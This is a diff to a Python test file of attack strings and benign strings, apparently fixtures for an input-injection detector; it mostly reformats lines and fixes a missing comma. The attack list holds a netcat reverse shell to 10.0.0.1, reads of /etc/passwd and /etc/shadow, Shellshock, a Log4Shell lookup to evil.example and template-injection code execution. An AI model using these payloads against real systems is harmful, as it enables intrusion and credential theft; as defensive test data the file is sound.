@@ -21,9 +21,11 @@ ATTACKS: dict[str, tuple[str, ...]] = {
         "1 AND extractvalue(1,concat(0x7e,version()))",
     ),
     "nosql": ("username[$ne]=a", "{'$where': 'sleep(100)'}", "db.users.find({})"),
-    "command": ("; cat /etc/passwd", "$(whoami)", "| nc -e /bin/sh 10.0.0.1 4444", "() { :; }; /bin/id", "cat$IFS/etc/passwd"),
-    "path": ("../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/shadow", "php://filter/convert.base64-encode/resource=index"),
-    "template": ("{{7*7}}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "${jndi:ldap://evil.example/a}", "<%= 7*7 %>"),
+    "command": ("; cat /etc/passwd", "$(whoami)", "| nc -e /bin/sh 10.0.0.1 4444", "() { :; }; /bin/id",
+                "cat$IFS/etc/passwd"),
+    "path": ("../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/shadow", "php://filter/read=convert.base64-encode"),
+    "template": ("{{7*7}}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "${jndi:ldap://evil.example/a}",
+                 "<%= 7*7 %>"),
     "markup": (
         "<script>alert(1)</script>",
         '"><img src=x onerror=alert(1)>',
@@ -53,7 +55,7 @@ BENIGN = (
     "Use `curl` to query the `/metrics` endpoint",
     "See [the guide](../guides/replay.md) and ![logo](https://example.com/a.png)",
     "# Title\n\n* item one\n* item two\n\n```python\nfor x in range(10):\n    print(x)\n```\n",
-    '<p>Hello <b>world</b>, see <a href="https://example.com/a?b=1" target="_blank">this</a></p>'
+    '<p>Hello <b>world</b>, see <a href="https://example.com/a?b=1" target="_blank">this</a></p>',
     '<img src="https://cdn.example.com/a.png" alt="figure" width="640">',
     '<table class="t"><tr><td>1</td><td>2</td></tr></table>',
     "query Menu($id: ID!) {\n  menu(id: $id) {\n    ...MenuDetails\n  }\n}\n",
